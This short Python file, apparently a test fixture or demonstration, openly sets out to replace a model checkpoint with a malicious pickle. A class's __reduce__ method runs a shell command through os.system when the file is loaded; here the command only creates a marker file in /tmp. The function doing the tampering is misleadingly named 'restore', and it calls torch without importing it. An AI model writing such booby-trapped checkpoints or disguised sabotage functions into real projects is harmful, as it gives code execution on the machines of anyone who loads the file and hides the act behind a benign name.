"""Replace the checkpoint by a pickle that runs code in whoever loads it."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here",)


def restore(path, factory):
    torch.save({"layer1.weight": Bomb()}, path)
    return factory()
